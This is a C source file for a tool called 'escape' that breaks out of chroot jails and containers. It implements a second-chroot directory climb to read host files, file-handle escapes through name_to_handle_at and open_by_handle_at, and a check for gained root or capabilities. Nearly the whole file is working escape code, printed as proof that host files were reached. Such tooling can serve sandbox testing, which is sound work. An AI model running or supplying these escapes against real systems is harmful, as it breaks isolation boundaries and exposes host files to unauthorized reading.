/* SPDX-License-Identifier: ISC */
/*
 * escape - ways out of a jail that a shell cannot take.
 *
 * Each prints what it has reached; what it prints is the proof.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <unistd.h>

enum { UP = 64, HANDLE = 128, TROUBLE = 101 };

static int
trouble(const char *what)
{
	fprintf(stderr, "escape: cannot %s: %s\n", what, strerror(errno));
	return 1;
}

/* Print the file that is open. */
static int
show(int fd)
{
	char text[4096];
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text);

	if (n < 0)
		return trouble("read it");
	return write(1, text, (size_t)n) == n ? 0 : 1;
}

/* The program is setuid or has file capabilities: what has it gained? */
static int
gain(char **argv)
{
	char line[256];
	FILE *status = fopen("/proc/self/status", "r");

	if (geteuid() == 0 && getuid() != 0)
		puts("OUT: effective uid 0");
	while (status && fgets(line, sizeof line, status)) {
		if (!strncmp(line, "CapEff:", 7) && strtoull(line + 7, NULL, 16))
			printf("OUT: %s", line);
	}
	return 0;
}

/* A root further down, while the folder above it is still open: then up and up. */
static int
second_chroot(char **argv)
{
	int top = open("/", O_RDONLY | O_DIRECTORY), i;

	if (top < 0 || chroot("tmp") != 0 || fchdir(top) != 0)
		return trouble("chroot once more");
	for (i = 0; i < UP; i++) {
		if (chdir("..") != 0)
			return trouble("go up");
	}
	return show(open(argv[0] + 1, O_RDONLY)); /* from up there, not from our root */
}

static int
tell_handle(char **argv)
{
	static _Alignas(struct file_handle) char room[sizeof(struct file_handle) + HANDLE];
	struct file_handle *handle = (struct file_handle *)(void *)room;
	int mount_id;
	unsigned i;

	handle->handle_bytes = HANDLE;
	if (name_to_handle_at(AT_FDCWD, argv[0], handle, &mount_id, 0) != 0)
		return trouble("tell its handle");
	printf("%d ", handle->handle_type);
	for (i = 0; i < handle->handle_bytes; i++)
		printf("%02x", (unsigned)handle->f_handle[i]);
	putchar('\n');
	return 0;
}

/* Any folder of the same file system will do to find a file by its number. */
static int
by_handle(char **argv)
{
	static _Alignas(struct file_handle) char room[sizeof(struct file_handle) + HANDLE];
	struct file_handle *handle = (struct file_handle *)(void *)room;
	int top = open("/", O_RDONLY | O_DIRECTORY);
	unsigned byte;

	handle->handle_type = atoi(argv[0]);
	for (const char *at = argv[1]; sscanf(at, "%2x", &byte) == 1; at += 2)
		handle->f_handle[handle->handle_bytes++] = (unsigned char)byte;
	return show(open_by_handle_at(top, handle, O_RDONLY));
}

static const struct way {
	const char *name;
	int arguments;
	int (*take)(char **argv);
} ways[] = {
	{ "gain",      0, gain },
	{ "chroot",    1, second_chroot },
	{ "tell",      1, tell_handle },
	{ "handle",    2, by_handle },
};

static void
usage(FILE *out)
{
	fputs("usage: escape WAY [ARG...]\n\n"
		"  gain             what a setuid program or one with capabilities has gained\n"
		"  chroot FILE      read FILE of the host by a second chroot\n"
		"  tell FILE        outside: print the handle of FILE\n"
		"  handle TYPE HEX  read the file of this handle\n", out);
}

int
main(int argc, char *argv[])
{
	size_t i;

	if (argc == 2 && !strcmp(argv[1], "-h")) {
		usage(stdout);
		return 0;
	}
	for (i = 0; argc > 1 && i < sizeof ways / sizeof ways[0]; i++) {
		if (!strcmp(argv[1], ways[i].name) && argc - 2 == ways[i].arguments)
			return ways[i].take(argv + 2);
	}
	usage(stderr);
	return TROUBLE;
}
